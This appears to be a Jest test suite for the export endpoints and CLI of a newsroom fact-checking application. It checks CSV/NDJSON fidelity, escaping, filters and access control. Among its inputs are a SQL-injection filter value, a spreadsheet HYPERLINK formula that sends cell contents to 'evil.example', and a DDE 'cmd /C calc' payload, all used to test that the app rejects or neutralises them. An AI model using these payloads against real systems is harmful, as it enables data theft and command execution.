import { execFile } from 'node:child_process';
import { createHash } from 'node:crypto';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import canonicalize from 'canonicalize';
import { parse } from 'csv-parse/sync';
import { claimIn, PASSWORD, type ClaimRef, type Person } from '../fixtures/newsroom';
import { claimOperations } from '../helpers/claims';
import { useNewsroom } from '../helpers/useApp';

/**
 * GET /export/{claims,history}.{csv,ndjson}: what an auditor downloads is exactly what the database
 * holds (every event, in order, with its hashes), CSV is RFC 4180 in UTF-8, filters narrow the
 * rows, and only auditors and admins may export.
 */

const { app, n } = useNewsroom();
const claimOps = claimOperations(app);
let otherActorId: string;
let tricky: ClaimRef;
let published: ClaimRef;
let draft: ClaimRef;

// Commas, double quotes, line breaks (LF and CRLF) and non-Latin text in one claim.
const TRICKY_TEXT = 'Ri Yong Ho said, "we will never, ever give up our deterrent"\nthen added: 核抑止力, ядерное сдерживание — 🚀\r\nand left.';
const TRICKY_QUOTE = '"Never", he said; ""never"".';
const TRICKY_ACTOR = '리용호 (Ri Yong Ho), DPRK "FM"';

beforeAll(async () => {
  const { createActor } = await app.ok<{ createActor: { id: string } }>(
    `mutation($name: String!) { createActor(input: { name: $name, kind: PERSON, title: "Foreign Minister" }) { id } }`,
    { name: TRICKY_ACTOR },
    n.tokens.checker,
  );
  otherActorId = createActor.id;
  tricky = await claimOps.create(
    { text: TRICKY_TEXT, quote: TRICKY_QUOTE, claimantId: otherActorId, context: 'UN General Assembly, New York', topics: ['Nuclear, weapons'] },
    n.tokens.checker,
  );
  ({ updateClaim: tricky } = await app.ok<{ updateClaim: ClaimRef }>(
    `mutation($id: ID!, $v: Int!) { updateClaim(id: $id, expectedVersion: $v, input: { context: "UN General Assembly, New York, 29 Sept 2018" }) { id version } }`,
    { id: tricky.id, v: tricky.version },
    n.tokens.checker,
  ));
  draft = await claimIn(app, n, 'DRAFT');
  await claimIn(app, n, 'IN_REVIEW');
  published = await claimIn(app, n, 'PUBLISHED');
  await claimIn(app, n, 'ARCHIVED');
  await app.ok(
    `mutation($id: ID!) { openDispute(claimId: $id, input: { reason: "The UN panel's figure is an estimate, not a count." }) { id } }`,
    { id: published.id },
    n.tokens.checker2,
  );
  await app.ok(`mutation($id: ID!) { updateActor(id: $id, expectedVersion: 1, input: { title: "Minister of Foreign Affairs" }) { id } }`, { id: otherActorId }, n.tokens.checker);
});
const dir = mkdtempSync(path.join(os.tmpdir(), 'claimledger-export-'));
afterAll(() => rmSync(dir, { recursive: true, force: true }));

interface Download {
  status: number;
  headers: Headers;
  text: string;
}

/** GETs an export as `token` (the auditor's unless given; null: anonymous). */
async function download(path: string, token: string | null = n.tokens.auditor): Promise<Download> {
  const res = await fetch(`${app.url}${path}`, { headers: token !== null ? { authorization: `Bearer ${token}` } : {} });
  // fatal: a byte sequence that is not UTF-8 fails the test instead of turning into U+FFFD.
  const text = new TextDecoder('utf-8', { fatal: true }).decode(await res.arrayBuffer());
  return { status: res.status, headers: res.headers, text };
}

async function ok(path: string, token?: string | null): Promise<string> {
  const res = await download(path, token);
  if (res.status !== 200) throw new Error(`${path}: ${res.status} ${res.text}`);
  return res.text;
}

const lines = (ndjson: string) => ndjson.split('\n').filter((l) => l !== '');
const csvRows = (csv: string) => parse(csv, { columns: true }) as Record<string, string>[];

interface ExportedEvent {
  chain: string;
  seq: number;
  position: number;
  prevHash: string | null;
  version: number;
  claimId: string | null;
  entityType: string;
  entityId: string;
  action: string;
  userId: string | null;
  userLabel: string;
  occurredAt: string;
  changes: Record<string, unknown>;
  note: string | null;
  state: Record<string, unknown>;
  hash: string;
}

/** The events as the database holds them, column by column, in the order they were recorded. */
async function databaseEvents(): Promise<(ExportedEvent & { id: string })[]> {
  const rows: Record<string, unknown>[] = await app.ds.query(
    `SELECT id::text AS id, chain, seq, position, prev_hash, version, claim_id, entity_type, entity_id, action, user_id, user_label,
            occurred_at, changes, note, state, hash
     FROM history_events h ORDER BY h.position`,
  );
  return rows.map((r) => ({
    id: r.id as string,
    chain: r.chain as string,
    seq: r.seq as number,
    position: Number(r.position),
    prevHash: r.prev_hash as string | null,
    version: r.version as number,
    claimId: r.claim_id as string | null,
    entityType: r.entity_type as string,
    entityId: r.entity_id as string,
    action: r.action as string,
    userId: r.user_id as string | null,
    userLabel: r.user_label as string,
    occurredAt: (r.occurred_at as Date).toISOString(),
    changes: r.changes as Record<string, unknown>,
    note: r.note as string | null,
    state: r.state as Record<string, unknown>,
    hash: r.hash as string,
  }));
}

/** SHA-256 over RFC 8785 of every field but `hash`, as docs/history-verification.md specifies. */
function specHash(e: ExportedEvent): string {
  const { hash: _hash, ...payload } = e;
  return createHash('sha256').update(canonicalize(payload)!, 'utf8').digest('hex');
}

const withoutId = ({ id: _id, ...e }: ExportedEvent & { id: string }): ExportedEvent => e;

describe('the history export', () => {
  test('NDJSON holds every event of the database, in the order recorded, each line its canonical record with a hash that checks out', async () => {
    const res = await download('/export/history.ndjson');
    expect(res.status).toBe(200);
    const expected = await databaseEvents();
    expect(expected.length).toBeGreaterThan(20);
    const exported = lines(res.text);
    expect(res.headers.get('x-total-count')).toBe(String(expected.length));
    expect(exported).toHaveLength(expected.length);
    exported.forEach((line, i) => {
      const event = JSON.parse(line) as ExportedEvent;
      expect(event).toEqual(withoutId(expected[i]!));
      expect(line).toBe(canonicalize(event));
      expect(specHash(event)).toBe(event.hash);
    });
    // Each chain reads 1, 2, 3 … and links to its predecessor.
    const heads = new Map<string, ExportedEvent>();
    for (const line of exported) {
      const e = JSON.parse(line) as ExportedEvent;
      const prev = heads.get(e.chain);
      expect([e.seq, e.prevHash]).toEqual(prev ? [prev.seq + 1, prev.hash] : [1, null]);
      heads.set(e.chain, e);
    }
    expect([...heads.keys()]).toEqual(expect.arrayContaining([`claim:${tricky.id}`, `actor:${otherActorId}`, `user:${n.ids.checker}`]));
  });

  test('CSV has a header row and one row per event, equal to the database column by column, with hashes that check out', async () => {
    const res = await download('/export/history.csv');
    expect(res.status).toBe(200);
    expect(res.text.slice(0, res.text.indexOf('\n'))).toBe(
      'id,chain,seq,position,prev_hash,version,claim_id,entity_type,entity_id,action,user_id,user_label,occurred_at,changes,note,state,hash',
    );
    const expected = await databaseEvents();
    const rows = csvRows(res.text);
    expect(rows).toHaveLength(expected.length);
    rows.forEach((row, i) => {
      const event: ExportedEvent = {
        chain: row.chain!,
        seq: Number(row.seq),
        position: Number(row.position),
        prevHash: row.prev_hash || null,
        version: Number(row.version),
        claimId: row.claim_id || null,
        entityType: row.entity_type!,
        entityId: row.entity_id!,
        action: row.action!,
        userId: row.user_id || null,
        userLabel: row.user_label!,
        occurredAt: row.occurred_at!,
        changes: JSON.parse(row.changes!) as Record<string, unknown>,
        note: row.note || null,
        state: JSON.parse(row.state!) as Record<string, unknown>,
        hash: row.hash!,
      };
      expect(row.id).toBe(expected[i]!.id);
      expect(event).toEqual(withoutId(expected[i]!));
      expect(specHash(event)).toBe(event.hash);
    });
  });

  test('the CSV escapes commas, quotes and line breaks (RFC 4180) and keeps non-Latin text intact in UTF-8', async () => {
    const csv = await ok(`/export/history.csv?claim=${tricky.id}`);
    const created = csvRows(csv).find((r) => r.action === 'createClaim')!;
    const state = JSON.parse(created.state!) as { text: string; quote: string };
    expect(state.text).toBe(TRICKY_TEXT);
    expect(state.quote).toBe(TRICKY_QUOTE);
    // Quotes inside a quoted field are doubled: JSON's \" becomes \"" on the wire.
    expect(csv).toContain('\\""Never\\"", he said; \\""\\""never\\""\\"".');
  });
});

describe('the claims export', () => {
  interface ClaimRow {
    id: string;
    text: string;
    quote: string | null;
    claimant_id: string | null;
    claimant_name: string | null;
    context: string | null;
    review_status: string;
    verdict: string | null;
    version: number;
    created_at: Date;
    topics: string[];
  }
  const databaseClaims = (): Promise<ClaimRow[]> =>
    app.ds.query(
      `SELECT c.id, c.text, c.quote, c.claimant_id, a.name AS claimant_name, c.context, c.review_status, c.verdict, c.version, c.created_at,
              ARRAY(SELECT t.slug FROM claim_topics ct JOIN topics t ON t.id = ct.topic_id WHERE ct.claim_id = c.id ORDER BY t.slug) AS topics
       FROM claims c LEFT JOIN actors a ON a.id = c.claimant_id ORDER BY c.created_at, c.id`,
    );

  test('CSV: a header row, then one row per claim equal to the database, escaping commas, quotes, line breaks and non-Latin text', async () => {
    const res = await download('/export/claims.csv');
    expect(res.status).toBe(200);
    expect(res.text.slice(0, res.text.indexOf('\n'))).toBe(
      'id,text,quote,claimant_id,claimant_name,first_appearance_id,first_appearance_title,first_appearance_url,claimed_on,context,' +
        'topics,language,review_status,verdict,verdict_rationale,attribution_status,dispute_status,assignee_id,published_at,' +
        'imported_from,original_rating,version,created_at,updated_at',
    );
    const expected = await databaseClaims();
    const rows = csvRows(res.text);
    expect(rows.map((r) => r.id)).toEqual(expected.map((c) => c.id));
    rows.forEach((row, i) => {
      const c = expected[i]!;
      expect({
        text: row.text,
        quote: row.quote || null,
        claimant_id: row.claimant_id || null,
        claimant_name: row.claimant_name || null,
        context: row.context || null,
        review_status: row.review_status,
        verdict: row.verdict || null,
        version: Number(row.version),
        created_at: row.created_at,
        topics: row.topics ? row.topics.split(';') : [],
      }).toEqual({ ...c, id: undefined, created_at: c.created_at.toISOString() });
    });
    const trickyRow = rows.find((r) => r.id === tricky.id)!;
    expect([trickyRow.text, trickyRow.quote, trickyRow.claimant_name]).toEqual([TRICKY_TEXT, TRICKY_QUOTE, TRICKY_ACTOR]);
    // RFC 4180 on the wire: such fields are quoted and their quotes doubled.
    expect(res.text).toContain(`"${TRICKY_TEXT.replaceAll('"', '""')}"`);
    expect(res.text).toContain(`,"${TRICKY_ACTOR.replaceAll('"', '""')}",`);
    expect(res.text).toContain(',"UN General Assembly, New York, 29 Sept 2018",');
  });

  test('NDJSON: one JSON object per claim, equal to the database, with claimant, topics and live evidence', async () => {
    const exported = lines(await ok('/export/claims.ndjson')).map((l) => JSON.parse(l) as Record<string, unknown>);
    const expected = await databaseClaims();
    expect(exported.map((c) => c.id)).toEqual(expected.map((c) => c.id));
    exported.forEach((c, i) => {
      const d = expected[i]!;
      expect(c).toMatchObject({
        text: d.text,
        quote: d.quote,
        claimant: d.claimant_id ? { id: d.claimant_id, name: d.claimant_name } : null,
        context: d.context,
        reviewStatus: d.review_status,
        verdict: d.verdict,
        version: d.version,
        createdAt: d.created_at.toISOString(),
        topics: d.topics,
      });
    });
    const pub = exported.find((c) => c.id === published.id)!;
    expect(pub).toMatchObject({ reviewStatus: 'PUBLISHED', verdict: 'MOSTLY_TRUE', disputeStatus: 'DISPUTED', evidence: [{ stance: 'SUPPORTS', reliability: 4, sourceId: n.sourceId }] });
    expect(exported.find((c) => c.id === tricky.id)).toMatchObject({ text: TRICKY_TEXT, quote: TRICKY_QUOTE, claimant: { name: TRICKY_ACTOR }, evidence: [] });
  });
});

describe('filters', () => {
  const all = async () => lines(await ok('/export/history.ndjson')).map((l) => JSON.parse(l) as ExportedEvent);

  test('claim= keeps exactly the events of those claims (repeatable), in order', async () => {
    const everything = await all();
    const one = lines(await ok(`/export/history.ndjson?claim=${published.id}`)).map((l) => JSON.parse(l) as ExportedEvent);
    expect(one).toEqual(everything.filter((e) => e.claimId === published.id));
    expect(one.map((e) => e.action)).toEqual(['createClaim', 'addEvidence', 'submitClaim', 'proposeVerdict', 'approveVerdict', 'openDispute']);
    const two = lines(await ok(`/export/history.ndjson?claim=${published.id}&claim=${draft.id}`)).map((l) => JSON.parse(l) as ExportedEvent);
    expect(two).toEqual(everything.filter((e) => e.claimId === published.id || e.claimId === draft.id));
    const claims = lines(await ok(`/export/claims.ndjson?claim=${published.id},${draft.id}`)).map((l) => (JSON.parse(l) as { id: string }).id);
    expect(claims.sort()).toEqual([published.id, draft.id].sort());
  });

  test('actor= keeps the claims that actor made and the actor’s own events', async () => {
    const everything = await all();
    const events = lines(await ok(`/export/history.ndjson?actor=${otherActorId}`)).map((l) => JSON.parse(l) as ExportedEvent);
    expect(events).toEqual(everything.filter((e) => e.claimId === tricky.id || e.chain === `actor:${otherActorId}`));
    expect(events.filter((e) => e.chain === `actor:${otherActorId}`).map((e) => e.action)).toEqual(['createActor', 'updateActor']);
    const claims = csvRows(await ok(`/export/claims.csv?actor=${otherActorId}`));
    expect(claims.map((c) => c.id)).toEqual([tricky.id]);
  });

  test('status= keeps claims now in that state, and their events', async () => {
    const claims = lines(await ok('/export/claims.ndjson?status=PUBLISHED')).map((l) => JSON.parse(l) as { id: string; reviewStatus: string });
    expect(claims.map((c) => c.id)).toEqual([published.id]);
    const several = csvRows(await ok('/export/claims.csv?status=draft&status=ARCHIVED'));
    expect(new Set(several.map((c) => c.review_status))).toEqual(new Set(['DRAFT', 'ARCHIVED']));
    expect(several.map((c) => c.id)).toEqual(expect.arrayContaining([draft.id, tricky.id]));
    const events = lines(await ok('/export/history.ndjson?status=PUBLISHED')).map((l) => JSON.parse(l) as ExportedEvent);
    expect(events).toEqual((await all()).filter((e) => e.claimId === published.id));
  });

  test('from= and to= split the history at an instant: [from, to) with nothing lost or repeated', async () => {
    const everything = await all();
    const instant = everything[Math.floor(everything.length / 2)]!.occurredAt;
    const after = lines(await ok(`/export/history.ndjson?from=${instant}`)).map((l) => JSON.parse(l) as ExportedEvent);
    const before = lines(await ok(`/export/history.ndjson?to=${instant}`)).map((l) => JSON.parse(l) as ExportedEvent);
    expect(after).toEqual(everything.filter((e) => e.occurredAt >= instant));
    expect(before).toEqual(everything.filter((e) => e.occurredAt < instant));
    expect(before.length).toBeGreaterThan(0);
    expect(after.length).toBeGreaterThan(0);
    expect([...before, ...after]).toHaveLength(everything.length);
    // A window that ends where it starts plus one millisecond holds only that instant's events.
    const next = new Date(Date.parse(instant) + 1).toISOString();
    const window = lines(await ok(`/export/history.ndjson?from=${instant}&to=${next}`)).map((l) => JSON.parse(l) as ExportedEvent);
    expect(window).toEqual(everything.filter((e) => e.occurredAt === instant));
    // Days: nothing happened before 2000 or will have happened in 2999.
    expect(await ok('/export/history.ndjson?to=2000-01-01')).toBe('');
    expect(await ok('/export/claims.ndjson?from=2999-01-01')).toBe('');
    const claimsCsv = csvRows(await ok(`/export/claims.csv?from=2000-01-01&to=2999-01-01`));
    expect(claimsCsv).toHaveLength((await app.ds.query('SELECT id FROM claims')).length);
    // Real calendar days and instants with offsets are accepted (2020 is a leap year).
    for (const q of ['from=2020-02-29', 'to=2099-12-31', 'from=2018-03-01T01:00:00%2B05:00', 'from=2018-09-27T14:00:00.5Z']) {
      expect((await download(`/export/claims.ndjson?${q}`)).status).toBe(200);
    }
  });

  test.each([
    ['from=yesterday', 'from'],
    ['to=2018-02-30', 'to'],
    ['from=2019-02-29T10:00:00Z', 'from'],
    ['from=2019-01-01&to=2018-01-01', 'to'],
    ['claim=not-an-id', 'claim'],
    ["claim=1'); DROP TABLE claims; --", 'claim'],
    ['status=PUBLISHED,BOGUS', 'status'],
    ['actor=00000000-0000-4000-8000-000000000001&actor=00000000-0000-4000-8000-000000000002', 'actor'],
  ])('a malformed filter (%s) is refused with BAD_USER_INPUT naming the parameter', async (query, field) => {
    const res = await download(`/export/history.csv?${query}`);
    expect(res.status).toBe(400);
    const body = JSON.parse(res.text) as { errors: { extensions: { code: string; field: string } }[] };
    expect(body.errors[0]!.extensions).toMatchObject({ code: 'BAD_USER_INPUT', field });
  });
});

describe('headers and permissions', () => {
  test.each([
    ['/export/history.ndjson', 'application/x-ndjson; charset=utf-8', 'history', 'ndjson'],
    ['/export/history.csv', 'text/csv; charset=utf-8; header=present', 'history', 'csv'],
    ['/export/claims.ndjson', 'application/x-ndjson; charset=utf-8', 'claims', 'ndjson'],
    ['/export/claims.csv', 'text/csv; charset=utf-8; header=present', 'claims', 'csv'],
  ])('%s answers %s as a dated attachment', async (path, type, kind, ext) => {
    const res = await download(path);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe(type);
    expect(res.headers.get('content-disposition')).toMatch(new RegExp(`^attachment; filename="claimledger-${kind}-\\d{4}-\\d{2}-\\d{2}\\.${ext}"$`));
    expect(res.headers.get('cache-control')).toBe('no-store');
  });

  test.each(['admin', 'auditor'] as Person[])('%s may export claims and history', async (person) => {
    for (const path of ['/export/history.ndjson', '/export/claims.csv']) expect((await download(path, n.tokens[person])).status).toBe(200);
  });

  test('anonymous callers, API keys and a garbled token are refused with 401 UNAUTHENTICATED and no data', async () => {
    const { createApiKey } = await app.ok<{ createApiKey: { secret: string } }>(`mutation { createApiKey(name: "reader app") { secret } }`, {}, n.tokens.admin);
    for (const token of [null, createApiKey.secret, 'not-a-token']) {
      for (const path of ['/export/history.ndjson', '/export/claims.csv']) {
        const res = await download(path, token);
        expect(res.status).toBe(401);
        expect(res.text).not.toContain('createClaim');
        expect((JSON.parse(res.text) as { errors: { extensions: { code: string } }[] }).errors[0]!.extensions.code).toBe('UNAUTHENTICATED');
      }
    }
  });

  test.each(['checker', 'checker2', 'editor'] as Person[])('a fact-checker or editor (%s) may not export: 403 FORBIDDEN and no data', async (person) => {
    for (const path of ['/export/history.ndjson', '/export/history.csv', '/export/claims.ndjson']) {
      const res = await download(path, n.tokens[person]);
      expect(res.status).toBe(403);
      const body = JSON.parse(res.text) as { errors: { message: string; extensions: { code: string } }[] };
      expect(body.errors[0]!.extensions.code).toBe('FORBIDDEN');
      expect(body.errors[0]!.message).toMatch(/auditors and admins/);
    }
  });

  test('an unknown export is 404 NOT_FOUND, even for an auditor', async () => {
    for (const path of ['/export/users.csv', '/export/history.xml']) {
      const res = await download(path);
      expect(res.status).toBe(404);
      expect(res.text).toMatch(/NOT_FOUND/);
    }
  });
});

describe('npm run export (the CLI)', () => {
  const root = path.resolve(__dirname, '../..');
  interface Run {
    code: number;
    stdout: string;
    stderr: string;
  }
  const run = (command: string, args: string[]): Promise<Run> =>
    new Promise((resolve) => {
      const env: NodeJS.ProcessEnv = { ...process.env, CLAIMLEDGER_URL: app.url };
      delete env.CLAIMLEDGER_TOKEN;
      execFile(command, args, { cwd: root, env, maxBuffer: 64 * 1024 * 1024 }, (err, stdout, stderr) =>
        resolve({ code: err ? ((err as { code?: number }).code ?? -1) : 0, stdout, stderr }),
      );
    });
  const exportCli = (...args: string[]) => run(path.join(root, 'node_modules/.bin/tsx'), ['server/cli/export.ts', ...args]);

  test('--out writes a file byte for byte equal to the HTTP export; piped, it prints no progress bar, only a summary', async () => {
    const out = path.join(dir, 'history.ndjson');
    const r = await exportCli('history', '--format', 'ndjson', '--out', out, '--token', n.tokens.auditor);
    expect(r.code).toBe(0);
    const http = await ok('/export/history.ndjson');
    expect(readFileSync(out, 'utf8')).toBe(http);
    expect(r.stdout).toBe('');
    expect(r.stderr).toBe(`${out}: history export, ${lines(http).length} rows\n`);
  });

  test('without --out the export goes to standard output and nothing else is printed', async () => {
    const r = await exportCli('claims', '--format', 'csv', '--token', n.tokens.admin, '--status', 'PUBLISHED', '--status', 'DRAFT');
    expect(r.code).toBe(0);
    expect(r.stdout).toBe(await ok('/export/claims.csv?status=PUBLISHED&status=DRAFT'));
    expect(r.stderr).toBe('');
  });

  test('it can log in with --email and --password and pass filters through', async () => {
    const out = path.join(dir, 'one-claim.csv');
    const r = await exportCli('history', '--format', 'csv', '--out', out, '--email', 'auditor@newsroom.test', '--password', PASSWORD, '--claim', published.id);
    expect(r.code).toBe(0);
    const http = await ok(`/export/history.csv?claim=${published.id}`);
    expect(readFileSync(out, 'utf8')).toBe(http);
    expect(r.stderr).toBe(`${out}: history export, ${csvRows(http).length} rows\n`);
  });

  test('on a terminal it shows a progress bar with rows done, rate and ETA', async () => {
    const out = path.join(dir, 'tty.ndjson');
    // `script` runs the CLI on a pseudo-terminal and copies what the terminal showed.
    const command = ['node_modules/.bin/tsx', 'server/cli/export.ts', 'history', '--out', out, '--url', app.url, '--token', n.tokens.auditor].join(' ');
    const r = await run('script', ['-qec', command, '/dev/null']);
    expect(r.code).toBe(0);
    const total = lines(await ok('/export/history.ndjson')).length;
    expect(r.stdout).toMatch(new RegExp(`${total}/${total} rows \\| \\d+ rows/s \\| ETA \\d+s`));
    expect(readFileSync(out, 'utf8')).toBe(await ok('/export/history.ndjson'));
  });

  test('a fact-checker’s token is refused: exit status 1 with the server’s reason, and no file', async () => {
    const out = path.join(dir, 'refused.ndjson');
    const r = await exportCli('history', '--out', out, '--token', n.tokens.checker);
    expect(r.code).toBe(1);
    expect(r.stderr).toMatch(/^export: 403: .*auditors and admins may/);
    expect(() => readFileSync(out)).toThrow();
  });
});

describe('formula injection (OWASP CSV Injection)', () => {
  const TEXT = '=HYPERLINK("https://evil.example/?leak="&A1, "Click for the source")';
  const QUOTE = '+1 (555) 010-9999 is the number to call';
  const CONTEXT = '-2+3 said the minister, on television';
  const NAME = '@SUM(1+1)*cmd|\' /C calc\'!A0';
  const REASON = '=1+1 duplicates another claim';
  let claimId: string;

  beforeAll(async () => {
    const { createActor } = await app.ok<{ createActor: { id: string } }>(
      `mutation($name: String!) { createActor(input: { name: $name, kind: ORGANISATION }) { id } }`,
      { name: NAME },
      n.tokens.checker,
    );
    const created = await claimOps.create({ text: TEXT, quote: QUOTE, context: CONTEXT, claimantId: createActor.id }, n.tokens.checker);
    claimId = created.id;
    await claimOps.archive(created, REASON, n.tokens.editor);
  });

  test('the CSV exports, meant for spreadsheets, start such cells with a single quote; other cells are untouched', async () => {
    const [row] = csvRows(await ok(`/export/claims.csv?claim=${claimId}`));
    expect([row!.text, row!.quote, row!.context, row!.claimant_name]).toEqual([`'${TEXT}`, `'${QUOTE}`, `'${CONTEXT}`, `'${NAME}`]);
    expect([row!.id, row!.review_status, row!.language]).toEqual([claimId, 'ARCHIVED', 'en']);
    // A cell that merely contains = or + somewhere is left as it is.
    const [trickyRow] = csvRows(await ok(`/export/claims.csv?claim=${tricky.id}`));
    expect(trickyRow!.text).toBe(TRICKY_TEXT);

    const events = csvRows(await ok(`/export/history.csv?claim=${claimId}`));
    expect(events.map((e) => [e.action, e.note])).toEqual([
      ['createClaim', ''],
      ['archiveClaim', `'${REASON}`],
    ]);
    // JSON cells begin with "{" and are written as they are.
    expect(JSON.parse(events[0]!.state!)).toMatchObject({ text: TEXT, quote: QUOTE, context: CONTEXT });
  });

  test('the NDJSON exports keep the text byte-exact, and the history still verifies', async () => {
    const [claim] = lines(await ok(`/export/claims.ndjson?claim=${claimId}`)).map((l) => JSON.parse(l) as { text: string; quote: string; context: string; claimant: { name: string } });
    expect([claim!.text, claim!.quote, claim!.context, claim!.claimant.name]).toEqual([TEXT, QUOTE, CONTEXT, NAME]);
    const events = lines(await ok(`/export/history.ndjson?claim=${claimId}`)).map((l) => JSON.parse(l) as ExportedEvent);
    expect(events[0]!.state).toMatchObject({ text: TEXT, quote: QUOTE, context: CONTEXT });
    expect(events[1]!.note).toBe(REASON);
    for (const e of events) expect(specHash(e)).toBe(e.hash);
  });
});
